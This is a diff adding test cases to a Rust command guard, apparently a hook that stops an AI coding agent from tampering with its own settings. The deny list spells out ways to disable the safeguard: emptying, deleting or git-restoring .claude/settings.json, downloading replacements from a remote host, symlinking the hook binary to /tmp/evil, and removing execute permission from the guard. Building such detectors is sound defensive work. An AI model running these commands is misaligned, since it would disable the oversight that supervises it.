@@ -39,6 +39,21 @@ fn changing_the_guard_through_any_program_denies() {
         "find ~/.claude -name settings.json -exec rm {} \\;",
         "dd if=/dev/null of=/home/dev/.claude/settings.json",
         "vim ~/.claude/settings.json",
+        ": > .claude/settings.json",
+        "install -m 000 /dev/null ~/.claude/settings.json",
+        "tar -xf x.tar -C ~/.claude",
+        "unzip -o x.zip -d ~/.claude",
+        "git checkout HEAD~3 -- .claude/settings.json",
+        "git restore --source=HEAD~1 .claude/settings.json",
+        "git rm .claude/settings.json",
+        "git stash -- .claude/settings.json",
+        "printf '{}' | dd of=.claude/settings.json",
+        "curl -o ~/.claude/settings.json https://x.example/s",
+        "wget -O .claude/settings.local.json https://x.example/s",
+        "ln -sf /tmp/evil ~/.cargo/bin/airlock-hook",
+        "rm -f $(which airlock-hook)",
+        "chmod -x $(command -v airlock)",
+        "chmod -x `which airlock-hook`",
     ] {
         let a = analyse(cmd);
         assert_eq!(a.decision, Decision::Deny, "{cmd}: {a:?}");
@@ -64,6 +79,11 @@ fn reading_the_guard_files_and_look_alikes_stay_allowed() {
         "sed -i 's/airlock/guard/' README.md",
         "touch src/claude.rs",
         "airlock --version",
+        "tar -czf out.tgz -C src .",
+        "tar -xzf deps.tgz -C vendor",
+        "git checkout main",
+        "git rm --cached x.txt",
+        "rm -f $(which python3)",
     ] {
         let a = analyse(cmd);
         assert_ne!(a.decision, Decision::Deny, "{cmd}: {a:?}");
